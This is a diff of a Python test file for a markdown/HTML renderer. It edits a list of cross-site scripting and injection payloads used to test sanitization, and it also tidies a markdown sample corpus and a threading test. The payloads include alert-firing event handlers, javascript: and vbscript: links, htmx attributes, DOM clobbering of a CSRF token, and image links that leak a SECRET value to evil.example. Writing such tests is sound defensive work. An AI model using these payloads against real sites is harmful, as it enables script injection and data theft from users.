@@ -16,7 +16,7 @@ from tests.web.tags import acting, attributes, elements, names
 ATTACKS = (
     "<img src=x onerror=alert(1)>",
     "<svg onload=alert(1)><animate onbegin=alert(1)>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)'>",
+    "<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=a(1)'>",
     "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
     "<details open ontoggle=alert(1)>x</details>",
     "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
@@ -24,13 +24,14 @@ ATTACKS = (
     '<div hx-get="/admin/" hx-trigger="load" data-hx-post="/x" hx-on:click="alert(1)">x</div>',
     "<div hx-vals='js:alert(1)' ws-send hx-ext=ws>x</div>",
     "[x](javascript:alert(1)) [x](jav&#x09;ascript:alert(1)) [x](data:text/html,<script>)",
-    "[x](vbscript:x) [x](//evil.example) [x](\\\\evil.example) [x](https:evil.example) [x](/admin/)",
+    "[x](vbscript:x) [x](//evil.example) [x](\\\\evil.example) [x](https:evil.example)",
+    "[x](/admin/)",
     "<javascript:alert(1)> <data:text/html,x>",
     "![a](https://evil.example/?q=SECRET) ![b][r]\n\n[r]: https://evil.example/r",
     "[![a](https://evil.example/a)](https://evil.example/b)",
     "<video poster=https://evil.example/v><audio src=//evil.example/a autoplay>",
-    '<a id="csrfmiddlewaretoken" name="getElementById" style="background:url(//evil.example)">x</a>',
-    "```\"><script>alert(1)</script>\ncode\n```",
+    '<a id="csrfmiddlewaretoken" name="getElementById" style="color:url(//evil)">x</a>',
+    '```"><script>alert(1)</script>\ncode\n```',
     "```html\n<script>alert(1)</script>\n```",
     "`<script>alert(1)</script>`",
     "| <img src=x> | b |\n|:--|--:|\n| <script>x</script> | `y` |",
@@ -114,7 +115,8 @@ CORPUS = (
     "One paragraph.",
     "# Title\n\nText with **bold**\nover lines.\n\n- a\n- b\n  - c\n\n1. x\n\n2. y\n\nEnd",
     "Intro\n```python\nx = 1\n\n\ny = 2\n```\nAfter\n\n> quote\n> more\n\nTail `code`",
-    "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nText\n---\n\nsetext above\n\n***\n\n    code\n\n    more",
+    "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nText\n---\n\nabove\n\n***\n",
+    "Text\n\n    code\n\n    more\n\nend",
     "1. a\n\n2. b\n\n   inner\n\n3. c\n\n- [ ] t\n- [x] u\n\n\n\nlast\\\nline  \nbreak",
     "~~~\nopen fence\n```\nstill",
     "مرحبا\n\n- واحد\n\n日本語の**文章**。\n\n😀 `e`\r\n\r\ncrlf\rcr",
@@ -237,10 +239,11 @@ def test_a_whole_text_is_rendered_once_and_kept_when_small() -> None:
 def test_threads_render_side_by_side() -> None:
     sources = [f"# {n}\n\n" + CORPUS[n % len(CORPUS)] for n in range(24)]
     found: dict[str, str] = {}
-    threads = [
-        Thread(target=lambda part: [found.update({s: rendering._rendered(s)}) for s in part], args=(sources[n::4],))
-        for n in range(4)
-    ]
+
+    def work(part: list[str]) -> None:
+        found.update({source: rendering._rendered(source) for source in part})
+
+    threads = [Thread(target=work, args=(sources[n::4],)) for n in range(4)]
     for thread in threads:
         thread.start()
     for thread in threads:
